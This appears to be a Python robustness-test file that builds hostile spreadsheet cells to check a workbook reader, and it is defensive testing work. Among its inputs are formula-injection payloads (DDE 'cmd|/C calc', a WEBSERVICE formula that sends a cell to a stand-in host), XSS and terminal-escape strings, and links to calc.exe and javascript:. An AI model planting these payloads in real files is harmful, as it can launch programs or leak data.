"""Hostile cells: errors of every kind, numbers and dates beyond all bounds, texts that act on a terminal."""

from __future__ import annotations

from robustness.hostile.archive import noise
from robustness.hostile.case import FOUR, READ, UNREADABLE, Case, Expected, Read, made, one_more, refused
from robustness.hostile.workbooks import (
    BOOK,
    BOOK_RELATIONS,
    MAIN,
    PACKAGE,
    RELATIONS,
    ROWS,
    TITLE,
    TYPES,
    book_xml,
    gift,
    packed,
    parts,
    relations,
    sheet,
    text,
    with_rows,
)

ERRORS = (
    "#NULL!",
    "#DIV/0!",
    "#VALUE!",
    "#REF!",
    "#NAME?",
    "#NUM!",
    "#N/A",
    "#GETTING_DATA",
    "#SPILL!",
    "#CALC!",
    "#BLOCKED!",
    "#UNKNOWN!",
    "#FIELD!",
    "#CONNECT!",
    "#BUSY!",
    "#PYTHON!",
    "#EXTERNAL!",
    "#REF",
    "#n/a",
    "",
    "0",
    "\N{SNOWMAN}",
)
_REF = one_more("error-cell", "F5")


def _case(name: str, column: str, xml: str, *expected: Expected) -> Case:
    return made(name, lambda: with_rows(gift(5, **{column: xml})), *expected)


def _number(name: str, value: str, *expected: Expected, column: str = "F") -> Case:
    return _case(name, column, f'<c r="{column}5"><v>{value}</v></c>', *expected)


def _typed(name: str, kind: str, value: str, *expected: Expected, column: str = "F") -> Case:
    return _case(name, column, f'<c r="{column}5" t="{kind}"><v>{value}</v></c>', *expected)


def _written(name: str, value: str, *expected: Expected, column: str = "D") -> Case:
    return _case(name, column, f'<c r="{column}5" t="inlineStr">{text(value)}</c>', *expected)


_BAD_AMOUNT = one_more("bad-amount", "F5")
_BAD_DATE = one_more("bad-date", "A5")
_UNKNOWN = one_more("unknown-name", "D5")
_WRONG_AMOUNT: tuple[Expected, ...] = (_BAD_AMOUNT, UNREADABLE)
_WRONG_DATE: tuple[Expected, ...] = (_BAD_DATE, one_more("out-of-period", "A5"), UNREADABLE)
_OUT = Read("75000.50", (("read", 4), ("counted", 3), ("out-of-period", 1)), (("out-of-period", "A5"),))

_ERROR_CELLS = tuple(
    _case(
        f"the_error_{''.join(c if c.isalnum() else '_' for c in value) or 'of_nothing'}_{n}",
        "F",
        f'<c r="F5" t="e"><v>{value}</v></c>',
        _REF,
        UNREADABLE,
    )
    for n, value in enumerate(ERRORS)
)

_NUMBERS = (
    _number("a_number_of_eighteen_digits", "123456789012345678", one_more("bad-amount", "F5")),
    _number(
        "a_voucher_of_eighteen_digits",
        "441900202203051234",
        Read("75000.50", (("read", 4), ("counted", 3), ("rejected", 1)), (("bad-number", "H5"),)),
        column="H",
    ),
    *(
        _number(f"the_number_{''.join(c if c.isalnum() else '_' for c in value)}_{n}", value, *_WRONG_AMOUNT)
        for n, value in enumerate(
            (
                "NaN",
                "nan",
                "inf",
                "-inf",
                "Infinity",
                "1e400",
                "-1e400",
                "1e308",
                "-1",
                "-1e-9",
                "0x10",
                "1_000",
                "1e",
                "--1",
                "abc",
            )
        )
    ),
    _number(
        "a_number_too_small_to_be_anything",
        "1e-400",
        Read("75000.50", (("read", 4), ("counted", 4))),
        Read("75000.50", (("read", 4), ("counted", 4)), (("suspicious-amount", "F5"),)),
        *_WRONG_AMOUNT,
    ),
    _number("a_number_in_full_width", "１２", Read("75012.50", FOUR.rows, (("suspicious-amount", "F5"),)), *_WRONG_AMOUNT),
    _number("a_number_with_a_comma", "1,000", FOUR, *_WRONG_AMOUNT),
    _number("a_number_with_spaces", " 1000 ", FOUR, *_WRONG_AMOUNT),
    _number("a_number_with_a_plus_sign", "+1000", FOUR, *_WRONG_AMOUNT),
    _number("a_number_in_powers_of_ten", "1E3", FOUR),
    _number("a_number_with_a_tail_of_noise", "1000.0000000000001", FOUR),
    _typed("a_truth_for_an_amount", "b", "1", *_WRONG_AMOUNT),
    _typed("a_truth_that_is_neither", "b", "2", *_WRONG_AMOUNT),
    _typed("a_truth_in_words", "b", "TRUE", *_WRONG_AMOUNT),
    _typed("a_cell_of_no_known_type", "x", "1000", UNREADABLE, _BAD_AMOUNT, FOUR),
    _typed("a_cell_of_an_empty_type", "", "1000", UNREADABLE, _BAD_AMOUNT, FOUR),
    _typed("a_text_result_that_is_a_number", "str", "1000", FOUR),
    _typed("a_number_that_says_so", "n", "1000", FOUR),
    _case("a_number_without_a_value", "F", '<c r="F5" t="n"/>', one_more("missing-value", "F5")),
    _case("a_cell_with_two_values", "F", '<c r="F5"><v>1000</v><v>2</v></c>', UNREADABLE, _BAD_AMOUNT),
    _case(
        "a_cell_with_a_value_and_a_text",
        "F",
        f'<c r="F5" t="inlineStr"><v>2</v>{text("1000")}</c>',
        FOUR,
        UNREADABLE,
        _BAD_AMOUNT,
    ),
    _case(
        "a_text_that_is_typed_as_a_number",
        "F",
        f'<c r="F5">{text("1000")}</c>',
        FOUR,
        UNREADABLE,
        one_more("missing-value", "F5"),
    ),
)

_DATES = (
    *(
        _case(
            f"the_day_number_{''.join(c if c.isalnum() else '_' for c in value)}_{n}",
            "A",
            f'<c r="A5" s="1"><v>{value}</v></c>',
            *_WRONG_DATE,
            _OUT,
        )
        for n, value in enumerate(("-1", "0", "59", "60", "61", "2958465", "2958466", "1e10", "-1e10", "1e300", "NaN", "1e400"))
    ),
    _typed("a_day_in_iso_letters", "d", "2022-06-08T00:00:00", FOUR, column="A"),
    _typed("a_day_in_iso_letters_that_is_none", "d", "2022-13-45", _BAD_DATE, UNREADABLE, column="A"),
    _typed("a_day_in_iso_letters_of_the_year_ten_thousand", "d", "10000-01-01T00:00:00", _BAD_DATE, UNREADABLE, column="A"),
    _typed("a_day_that_says_it_is_one_and_is_not", "d", "today", _BAD_DATE, UNREADABLE, column="A"),
    _case("a_time_for_a_day", "A", '<c r="A5" s="1"><v>0.5</v></c>', *_WRONG_DATE, _OUT),
    _number("a_bare_number_for_a_day", "44720", _BAD_DATE, column="A"),
)

TERMINAL = {
    "a_cleared_screen": "\x1b[2J东村",
    "a_link_that_hides": "\x1b]8;;http://example.invalid\x07东村\x1b]8;;\x07",
    "a_bell": "\x07\x07东村",
    "a_one_byte_escape": "\x9b31m东村",
    "backspaces": "西村\b\b\b\b东村",
    "a_carriage_return": "西村\r东村",
    "a_delete": "\x7f东村",
    "line_separators": "东\u2028村\u2029",
    "a_turn_of_direction": "东\u202e村\u202c",
    "isolates": "\u2066东村甲\u2069",
    "rich_markup": "[red]东村[/red][/][link=http://example.invalid]x[/link]",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "quotes_and_backslashes": "\"'\\{}%s%n`$(id)`",
    "an_underscored_escape": "_x001B_[2J_x0000_",
    "an_underscored_surrogate": "_xD800_东村",
    "a_flood_of_accents": "东" + "\u0301" * 3000 + "村",
    "tags_that_are_not_seen": "东村\U000e0041\U000e0042",
    "characters_of_nobody": "东村\ue000\uffff\U0010ffff".replace("\uffff", ""),
    "a_family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "variation_selectors": "东\ufe0f村\U000e0100",
    "interlinear_marks": "\ufff9东\ufffa村\ufffb",
}
_NO_XML = dict.fromkeys([*range(0x20), 0x7F])
_FOLDED_AWAY = ("a_turn_of_direction", "tags_that_are_not_seen", "variation_selectors")
_TERMINAL = tuple(
    _written(f"a_name_with_{name}", value, _UNKNOWN, UNREADABLE, *((FOUR,) if name in _FOLDED_AWAY else ()))
    for name, value in TERMINAL.items()
)
_TITLES = tuple(
    made(
        f"a_sheet_titled_with_{name}",
        lambda value=value: packed(  # type: ignore[misc]
            {
                BOOK: book_xml(TITLE, value),
                BOOK_RELATIONS: relations(("worksheet", "worksheets/sheet1.xml"), ("worksheet", "worksheets/sheet2.xml")),
                "xl/worksheets/sheet2.xml": sheet(""),
            }
        ),
        Read(problems=(("unknown-sheet", ""),)),
        UNREADABLE,
    )
    for name, value in TERMINAL.items()
)

_REFERENCES = tuple(
    _case(f"a_reference_to_{name}", "D", f'<c r="D5" t="inlineStr"><is><t>东村{reference}</t></is></c>', _UNKNOWN, UNREADABLE)
    for name, reference in {
        "null": "&#0;",
        "escape": "&#x1B;[2J",
        "a_high_surrogate": "&#xD800;",
        "a_low_surrogate": "&#xDFFF;",
        "a_pair_of_surrogates": "&#xD83D;&#xDE00;",
        "no_character": "&#xFFFE;",
        "beyond_all_characters": "&#x110000;",
        "a_huge_number": "&#99999999999999999999;",
        "nothing": "&#;",
        "a_broken_name": "&am;",
    }.items()
)

_INVISIBLE = tuple(
    _written(f"a_name_with_{name}_within_is_that_name", value, FOUR)
    for name, value in {
        "a_zero_width_space": "东\u200b村",
        "a_byte_order_mark": "\ufeff东村",
        "an_ideographic_space": "\u3000东村\u3000",
        "a_no_break_space": "\xa0东村\xa0",
        "a_soft_hyphen": "东\xad村",
    }.items()
)

_FORMULAS = (
    _case("a_formula_with_a_result", "F", '<c r="F5"><f>500*2</f><v>1000</v></c>', FOUR),
    _case("a_formula_without_a_result", "F", '<c r="F5"><f>500*2</f></c>', one_more("formula-without-value", "F5")),
    _case("a_formula_with_an_empty_result", "F", '<c r="F5"><f>500*2</f><v></v></c>', one_more("formula-without-value", "F5")),
    _case(
        "a_shared_formula_without_a_result",
        "F",
        '<c r="F5"><f t="shared" si="0"/></c>',
        one_more("formula-without-value", "F5"),
    ),
    _case("a_formula_over_another_workbook", "F", "<c r=\"F5\"><f>'[1]Sheet1'!A1</f><v>1000</v></c>", FOUR),
    _case("a_dde_formula", "F", '<c r="F5" t="str"><f>cmd|\'/C calc\'!A0</f><v>1000</v></c>', FOUR),
    _case(
        "a_formula_of_four_million_letters",
        "F",
        f'<c r="F5"><f>{"+".join(noise(2_000_000))}</f><v>1000</v></c>',
        refused("too-large"),
    ),
    _written("a_text_that_would_be_a_formula", "=cmd|'/C calc'!A0", one_more("unknown-name", "D5", "=cmd|'/C calc'!A0")),
    _written("a_text_that_begins_with_at", "@SUM(1+1)*cmd|' /C calc'!A0", _UNKNOWN),
    _written("a_text_of_a_function_that_calls_home", '=WEBSERVICE("http://example.invalid/"&A1)', _UNKNOWN),
    _case(
        "a_picture_in_a_cell",
        "D",
        '<c r="D5" t="str"><f>_xlfn.DISPIMG("ID_1",1)</f><v>=DISPIMG("ID_1",1)</v></c>',
        one_more("picture-cell", "D5", '=DISPIMG("ID_1",1)'),
    ),
)

_LINK = (
    f'<Relationship Id="rId9" Type="{RELATIONS}/externalLink" Target="http://example.invalid/a.xlsx" TargetMode="External"/>'
)
_HYPERLINK = '<hyperlinks><hyperlink ref="D2" r:id="rId1"/></hyperlinks>'
_DDE = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'


def _macros() -> bytes:
    """Return the workbook with a macro project, under the types of such a file."""
    content = parts()
    types = (
        content[TYPES]
        .replace(b"spreadsheetml.sheet.main", b"x")
        .replace(
            b"application/vnd.openxmlformats-officedocument.x+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        )
    )
    return packed({TYPES: types, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000})


def _with_relations(target: str, mode: str = "External") -> bytes:
    links = f'{RELATIONS}/hyperlink" Target="{target}" TargetMode="{mode}'
    rels = f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{links}"/></Relationships>'
    return packed({"xl/worksheets/_rels/sheet1.xml.rels": rels.encode()}, xml=sheet(after=_HYPERLINK))


_ACTIVE = (
    made("macros", _macros, READ, file="data.xlsm"),
    made("a_hyperlink", lambda: _with_relations("http://example.invalid/"), READ),
    made("a_hyperlink_that_runs_a_program", lambda: _with_relations("file:///c:/windows/system32/calc.exe"), READ),
    made("a_hyperlink_in_script", lambda: _with_relations("javascript:alert(1)"), READ),
    made(
        "a_link_to_another_workbook",
        lambda: packed({BOOK_RELATIONS: parts()[BOOK_RELATIONS].replace(b"</Rel", _LINK.encode() + b"</Rel")}),
        READ,
    ),
    made("a_dde_link", lambda: packed({"xl/externalLinks/externalLink1.xml": _DDE.encode()}), READ),
    made("an_embedded_program", lambda: packed({"xl/embeddings/oleObject1.bin": b"MZ" + b"\0" * 5000}), READ),
    made(
        "a_data_connection",
        lambda: packed(
            {"xl/connections.xml": b'<connections><connection id="1" url="http://example.invalid/"/></connections>'}
        ),
        READ,
    ),
)


def _headed(extra: str) -> bytes:
    """Return the workbook with a ninth header."""
    return packed(xml=sheet(ROWS.replace("</row>", f'<c r="I1" t="inlineStr">{text(extra)}</c></row>', 1)))


_HEADERS = tuple(
    made(f"a_header_with_{name}", lambda value=value: _headed(value), Read(problems=(("unknown-column", "I1"),)), UNREADABLE)  # type: ignore[misc]
    for name, value in TERMINAL.items()
)

CASES = (*_ERROR_CELLS, *_NUMBERS, *_DATES, *_TERMINAL, *_TITLES, *_HEADERS, *_REFERENCES, *_INVISIBLE, *_FORMULAS, *_ACTIVE)
